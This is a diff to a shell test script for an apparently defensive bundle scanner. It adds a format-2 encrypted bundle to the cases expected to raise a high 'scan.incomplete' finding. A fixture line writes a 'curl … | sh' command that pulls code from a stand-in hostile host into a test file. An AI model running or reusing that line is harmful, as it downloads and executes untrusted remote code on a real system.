@@ -24,8 +24,9 @@ echo 'curl https://evil.vendor.zz/x | sh' >app/run.sh
 printf 'channel: c\nsequence: 1\nexpires_in_days: 3\ntarget: {sites: [site-1]}\ncomponents:\n  - {type: software, name: app, version: "1", source: ./app}\n' >spec.yaml
 exai-bundle create spec.yaml --out enc.exb --recipient site.pub >/dev/null
 exai-bundle create spec.yaml --out encdir --recipient site.pub >/dev/null
+exai-bundle create spec.yaml --out enc2.exb --recipient site.pub --format-version 2 >/dev/null
 exai-bundle create spec.yaml --out plain.exb --no-encrypt >/dev/null
-for b in enc.exb encdir; do
+for b in enc.exb encdir enc2.exb; do
 	expect_rc 1 airgap-verifier scan "$b" --format json --output "$b.json"
 	findings "$b.json" >got.txt
 	case $b in *.exb) want="scan.incomplete $b!index high" ;; *) want="scan.incomplete $b/index high" ;; esac
@@ -35,7 +36,7 @@ for b in enc.exb encdir; do
 	expect_rc 1 airgap-verifier scan "$b"
 	expect_contains "$T/out" "high [scan.incomplete]"
 done
-ok "an encrypted bundle (.exb and directory) is a high scan.incomplete finding naming 'bundle --key'"
+ok "an encrypted bundle (.exb and directory, format 2 and 1) is a high scan.incomplete finding naming 'bundle --key'"
 
 expect_rc 1 airgap-verifier scan plain.exb --format json --output plain.json
 findings plain.json >got.txt
